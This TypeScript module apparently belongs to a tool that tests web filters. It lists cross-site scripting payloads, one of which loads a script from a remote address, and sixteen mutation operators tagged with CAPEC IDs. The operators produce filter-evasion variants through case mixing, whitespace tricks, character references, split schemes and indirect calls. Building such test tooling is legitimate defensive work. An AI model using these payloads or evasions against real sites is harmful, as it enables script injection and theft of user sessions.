import { commonEncodings, entityDecimal, entityHex, entityNamed, hexEscape, overlong } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '<script>alert(7)</script>',
  '<script src="https://203.0.113.5/k.js"></script>',
  '<img src=k onerror=alert(7)>',
  '<svg onload=alert(7)>',
  '<body onpageshow=confirm(7)>',
  '"><img src=q onerror=prompt(7)>',
  "'><svg onload=alert(document.domain)>",
  '<a href="javascript:alert(7)">more</a>',
  '<iframe src="javascript:alert(7)"></iframe>',
  '<details open ontoggle=alert(7)>',
  '<input autofocus onfocus=alert(7)>',
  '" onmouseover="alert(7)',
  "' autofocus onfocus='alert(7)",
  "';alert(7);//",
  '<video><source onerror=alert(7)></video>',
  '<form action="javascript:alert(7)"><input type=submit></form>',
  '<iframe srcdoc="<b onclick=alert(7)>k</b>"></iframe>',
  '<marquee onstart=alert(7)>k</marquee>',
];

/** Each letter of an element's or an attribute's name in either case. */
const nameCase: Operator = syntax('name-case', 'CAPEC-66 mixed case', (payload, random) =>
  payload.replaceAll(/(?<=<\/?)[a-z]+|\bon[a-z]+(?==)|\b(?:src|href|action|srcdoc)(?==)|javascript(?=:)/g, (name) =>
    [...name].map((letter) => (random.below(2) === 0 ? letter.toUpperCase() : letter)).join(''),
  ),
);

/** A slash between an element's name and its first attribute. */
const slashBlank: Operator = syntax('slash-blank', 'CAPEC-63 slash as separator', (payload) =>
  payload.replaceAll(/(<[a-z]+) (?=[a-z])/g, '$1/'),
);

/** Other blanks between attributes. */
const otherBlank: Operator = syntax('other-blank', 'CAPEC-63 alternative white space', (payload, random) =>
  payload.replaceAll(/(?<=<[^>]*) /g, () => random.pick(['\t', '\n', '\f', '\r', '  ', ' \n\t'])),
);

/** Blanks around the `=` of a handler. */
const spacedEquals: Operator = syntax('spaced-equals', 'CAPEC-63 alternative white space', (payload, random) =>
  payload.replaceAll(/(?<=\bon[a-z]+)=/g, () => random.pick([' =', '= ', '\n=\t', '\t= '])),
);

/** Handlers' values within quotes. */
const quotedHandler: Operator = syntax('quoted-handler', 'CAPEC-63 attribute quoting', (payload, random) => {
  if (payload.includes('srcdoc')) return null;
  const quote = random.pick(["'", '"']);
  return payload.replaceAll(/(\bon[a-z]+=)([a-z]+\([a-z.\d]*\))(?=[>\s])/g, `$1${quote}$2${quote}`);
});

/** Script of a handler and the letters of a scheme as character references, which a browser undoes in attributes. */
const attributeReferences: Operator = syntax(
  'attribute-references',
  'CAPEC-199 character references',
  (payload, random) =>
    payload.replaceAll(/(?<=\bon[a-z]+=["']?)[a-z]+(?=\()|(?<==["']?)javascript(?=:)/g, (text) =>
      [...text]
        .map((letter) => {
          const code = letter.charCodeAt(0);
          return random.pick([
            letter,
            `&#${code};`,
            `&#x${code.toString(16)};`,
            `&#0000${code};`,
            `&#X${code.toString(16)};`,
          ]);
        })
        .join(''),
    ),
);

/** Tabs and line ends within a scheme, which browsers drop. */
const splitScheme: Operator = syntax('split-scheme', 'CAPEC-63 white space in schemes', (payload, random) =>
  payload.replaceAll('javascript:', () => {
    const at = 1 + random.below(9);
    const blank = random.pick(['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#9;', '&#10;']);
    return `${'javascript'.slice(0, at)}${blank}${'javascript'.slice(at)}:`;
  }),
);

/** Controls and blanks in front of a scheme, which browsers skip. */
const paddedScheme: Operator = syntax('padded-scheme', 'CAPEC-63 white space in schemes', (payload, random) =>
  payload.replaceAll('="javascript:', () => `="${random.pick(['\x01', ' ', '\x1f', '&#1;', '\n', ' \t'])}javascript:`),
);

/** The name of the called function spelt with escapes of script. */
const escapedCall: Operator = syntax('escaped-call', 'CAPEC-71 script escapes', (payload, random) =>
  payload.replaceAll(/\b(alert|confirm|prompt)(?=\()/g, (name) => {
    const at = random.below(name.length);
    const code = name.charCodeAt(at).toString(16);
    return `${name.slice(0, at)}${random.pick([`\\u00${code}`, `\\u{${code}}`, `\\u{000${code}}`])}${name.slice(at + 1)}`;
  }),
);

/** The function reached another way. */
const indirectCall: Operator = syntax('indirect-call', 'CAPEC-63 indirect calls', (payload, random) =>
  payload.replaceAll(/\b(alert|confirm|prompt)\(([^)]*)\)/g, (_all, name: string, argument: string) => {
    const quote =
      payload.includes(`"${name}`) || payload.includes('="javascript') || payload.includes('="') ? '`' : '"';
    const head = name.slice(0, 2);
    const tail = name.slice(2);
    return random.pick([
      `window[${quote}${head}${quote}+${quote}${tail}${quote}](${argument})`,
      `top[${quote}${name}${quote}](${argument})`,
      `(${name})(${argument})`,
      `(0,${name})(${argument})`,
      `${name}?.(${argument})`,
      `${name}.call(null,${argument})`,
      `self.${name}(${argument})`,
      `[${argument}].find(${name})`,
    ]);
  }),
);

/** A comment between a function's name and its bracket. */
const commentedCall: Operator = syntax('commented-call', 'CAPEC-63 comments in script', (payload, random) =>
  payload.replaceAll(/\b(alert|confirm|prompt)(?=\()/g, (name) => `${name}/*${random.word(4)}*/`),
);

/** A template in the place of brackets. */
const taggedTemplate: Operator = syntax('tagged-template', 'CAPEC-63 calls without brackets', (payload) =>
  payload.replaceAll(/\b(alert|confirm|prompt)\((\d+)\)/g, '$1`$2`'),
);

/** Attributes in front of the one that runs. */
const junkAttributes: Operator = syntax('junk-attributes', 'CAPEC-63 padding', (payload, random) =>
  payload.replaceAll(
    /(<[a-z]+) (?=[a-z])/g,
    (_all, tag: string) => `${tag} ${random.word(4)}=${random.word(3)} ${random.word(5)} `,
  ),
);

/** Text in front. */
const junkPrefix: Operator = syntax('junk-prefix', 'CAPEC-63 padding', (payload, random) =>
  payload.startsWith('<') ? `${random.word(6)} ${random.word(3)}${payload}` : `${random.word(5)}${payload}`,
);

/** Markup in front that closes what may be open on the page. */
const closingPrefix: Operator = syntax('closing-prefix', 'CAPEC-63 element breakout', (payload, random) =>
  payload.startsWith('<')
    ? `${random.pick(['</textarea>', '</title>', '-->', '"/>', "'></b>", '</noscript>'])}${payload}`
    : null,
);

/** The last bracket left to the page. */
const unclosed: Operator = syntax('unclosed', 'CAPEC-63 unclosed tags', (payload) =>
  /^[^<]*<(?:img|svg|body|details|input)\b[^<]*>$/.test(payload) ? `${payload.slice(0, -1)} ` : null,
);

/** Cross-site scripting: elements, handlers, addresses, broken-out attributes and strings. */
export const xss: EvasionClass = {
  id: 'xss',
  payloads,
  operators: [
    nameCase,
    slashBlank,
    otherBlank,
    spacedEquals,
    quotedHandler,
    attributeReferences,
    splitScheme,
    paddedScheme,
    escapedCall,
    indirectCall,
    commentedCall,
    taggedTemplate,
    junkAttributes,
    junkPrefix,
    closingPrefix,
    unclosed,
    ...commonEncodings,
    hexEscape,
    overlong,
    entityHex,
    entityDecimal,
    entityNamed,
  ],
};
